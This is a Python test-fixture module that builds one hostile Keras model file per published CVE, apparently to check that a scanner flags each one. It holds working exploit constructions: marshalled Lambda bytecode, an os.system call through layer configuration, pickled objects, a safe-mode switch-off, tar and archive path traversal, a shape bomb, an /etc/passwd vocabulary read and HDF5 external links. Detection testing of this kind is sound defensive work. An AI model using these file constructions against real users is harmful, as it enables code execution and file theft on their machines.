"""One file for each published CVE of Keras' model files, as its advisory describes the attack.

Each would make a file MARK in its folder, or read one outside it, where nobody checks.
"""

import base64
import copy
import io
import json
import marshal
import pickle
import tarfile

from hostile_files import HOSTILE, Evil, h5
from valid_files import CONFIG, keras_archive, legacy, text

CVES = {}  # id -> (maker of a folder's file, what `rightfit.inspect` says)


def cve(number, said):
    def kept(maker):
        CVES[number] = (maker, said)
        return maker

    return kept


def with_layer(layer):
    """The valid model's configuration with one more layer."""
    config = copy.deepcopy(CONFIG)
    config["config"]["layers"].append(layer)
    return config


def code(folder):
    """A function's bytecode as Keras stores a Lambda's."""
    made = compile(f"open({str(folder / 'MARK')!r}, 'w')", "<lambda>", "eval")
    return base64.b64encode(marshal.dumps(made)).decode()


def lambda_layer(folder, **settings):
    function = {
        "class_name": "__lambda__",
        "config": {"code": code(folder), "defaults": None, "closure": None},
    }
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {"name": "lambda", "function": function, **settings},
        "registered_name": None,
    }


def function(module, name):
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


@cve("CVE-2021-37678", "asks for the tag .*python/object/apply")
def yaml_that_calls(folder):
    """`model_from_yaml` obeyed tags."""
    return HOSTILE["yaml_apply"][0](folder)


@cve("CVE-2024-3660", "Lambda")
def lambda_of_keras_2(folder):
    """A Lambda's bytecode in an `.h5` of Keras 2."""
    layers = [
        {
            "class_name": "Lambda",
            "config": {"function": [code(folder), None, None], "function_type": "lambda"},
        }
    ]
    return legacy(
        folder / "lambda.h5", {"class_name": "Sequential", "config": {"name": "net", "layers": layers}}
    )


@cve("CVE-2024-55459", "no format known")
def tar_that_climbs(folder):
    """`get_file` unpacked a tar archive wherever it said."""
    path = folder / "weights.tar.gz"
    with tarfile.open(path, "w:gz") as archive:
        member = tarfile.TarInfo("../../MARK")
        member.size = 4
        archive.addfile(member, io.BytesIO(b"mark"))
    return path


@cve("CVE-2025-1550", "asks for")
def module_and_function(folder):
    """Any module's function, called through `inbound_nodes`."""
    layer = {
        **function("os", "system"),
        "name": "run",
        "inbound_nodes": [{"args": [f"touch {folder / 'MARK'}"], "kwargs": {}}],
    }
    return keras_archive(folder / "module.keras", with_layer(layer))


@cve("CVE-2025-8747", "Lambda")
def get_file_as_a_gadget(folder):
    """A Lambda of `keras.utils.get_file`, which downloads."""
    settings = {
        "function": function("keras.utils", "get_file"),
        "arguments": {"origin": "http://127.0.0.1:9/x", "cache_dir": str(folder), "fname": "MARK"},
    }
    return keras_archive(folder / "gadget.keras", with_layer(lambda_layer(folder, **settings)))


@cve("CVE-2025-9905", "Lambda")
def lambda_of_keras_3_in_h5(folder):
    """`safe_mode` was not looked at for `.h5`."""
    return legacy(
        folder / "lambda3.h5", with_layer(lambda_layer(folder)), version="3.11.0", backend="tensorflow"
    )


@cve("CVE-2025-9906", "asks for|Lambda")
def safe_mode_switched_off(folder):
    """`enable_unsafe_deserialization` called from the configuration, then a Lambda."""
    config = with_layer(lambda_layer(folder))
    switch = function("keras.config", "enable_unsafe_deserialization")
    config["config"]["layers"].insert(1, {**switch, "inbound_nodes": [{"args": [], "kwargs": {}}]})
    return keras_archive(folder / "switch.keras", config)


@cve("CVE-2025-12058", "StringLookup")
def vocabulary_of_a_file(folder):
    """A vocabulary that is a path, or a URL."""
    layer = {
        "module": "keras.layers",
        "class_name": "StringLookup",
        "config": {"name": "lookup", "vocabulary": "/etc/passwd"},
        "registered_name": None,
    }
    return keras_archive(folder / "lookup.keras", with_layer(layer))


@cve("CVE-2025-12060", "no format known")
def tar_with_a_long_link(folder):
    """`get_file` again: links that resolve outside once they are unpacked."""
    path = folder / "weights.tar"
    with tarfile.open(path, "w") as archive:
        link = tarfile.TarInfo("a/" * 60 + "link")
        link.type, link.linkname = tarfile.SYMTYPE, "../" * 60 + ".."
        archive.addfile(link)
    return path


@cve("CVE-2025-12638", "is refused; the file is not to be trusted")
def archive_with_assets_that_climb(folder):
    """Unpacking members outside the folder, here in a `.keras` archive."""
    return keras_archive(folder / "assets.keras", more=[("assets/../../MARK", "mark")])


@cve("CVE-2025-49655", "TorchModuleWrapper")
def pickled_module(folder):
    """TorchModuleWrapper unpickled a module out of the configuration."""
    layer = {
        "module": "keras.layers",
        "class_name": "TorchModuleWrapper",
        "config": {"name": "torch", "module": base64.b64encode(pickle.dumps(Evil(folder))).decode()},
        "registered_name": None,
    }
    return keras_archive(folder / "torch.keras", with_layer(layer))


@cve("CVE-2026-0897", "declares")
def shape_bomb(folder):
    """A tensor of petabytes in a file of kilobytes."""

    def change(file):
        file.create_dataset(
            "layers/a/vars/0", (50_000_000, 50_000_000), "f4", chunks=(1_000, 1_000), compression="gzip"
        )

    weights = h5(folder, change).read_bytes()
    return keras_archive(folder / "bomb.keras", weights=weights)


@cve("CVE-2026-1462", "TFSMLayer")
def saved_model_as_a_layer(folder):
    """TFSMLayer loaded any SavedModel, which is a program."""
    layer = {
        "module": "keras.layers",
        "class_name": "TFSMLayer",
        "config": {"name": "tfsm", "filepath": str(folder / "saved"), "call_endpoint": "serve"},
        "registered_name": None,
    }
    return keras_archive(folder / "tfsm.keras", with_layer(layer))


@cve("CVE-2026-1669", "keeps its numbers elsewhere")
def external_dataset(folder):
    """Weights that are the bytes of another file."""
    weights = HOSTILE["hdf5_external_dataset"][0](folder).read_bytes()
    return keras_archive(folder / "external.keras", weights=weights)


@cve("CVE-2026-12479", "'..'")
def layer_name_that_climbs(folder):
    """A layer called `..`, whose name becomes a folder."""
    config = copy.deepcopy(CONFIG)
    config["config"]["layers"][1]["config"]["name"] = ".."
    return keras_archive(folder / "climbs.keras", config)


@cve("CVE-2026-12480", "keeps its numbers elsewhere")
def virtual_dataset(folder):
    """The same by a virtual dataset."""
    weights = HOSTILE["hdf5_virtual_dataset"][0](folder).read_bytes()
    return keras_archive(folder / "virtual.keras", weights=weights)


@cve("CVE-2026-12481", "Lambda")
def lambda_within_a_layer(folder):
    """A Lambda that is reached where no safe mode had been set: here within another layer, as JSON."""
    layer = {
        "module": "keras.layers",
        "class_name": "TimeDistributed",
        "config": {"name": "time", "layer": lambda_layer(folder)},
        "registered_name": None,
    }
    return text(folder / "nested.json", json.dumps(with_layer(layer)))


@cve("GHSA-hqp4-2352-xf5r", "is refused; the file is not to be trusted")
def archive_that_climbs_from_the_working_folder(folder):
    """Members were checked against the working folder, not the one they were unpacked into."""
    return keras_archive(folder / "archive.keras", more=[("../MARK", "mark")])


@cve("HDF5 links", "is a link elsewhere")
def link_to_another_file(folder):
    """keras#22900, without a CVE: the group `model_weights` of an `.h5` is a link into another file."""
    import h5py

    legacy(folder / "secret.h5", CONFIG)
    path = legacy(folder / "linked.h5", CONFIG)
    with h5py.File(path, "a") as file:
        del file["model_weights"]
        file["model_weights"] = h5py.ExternalLink("secret.h5", "/model_weights")
    return path
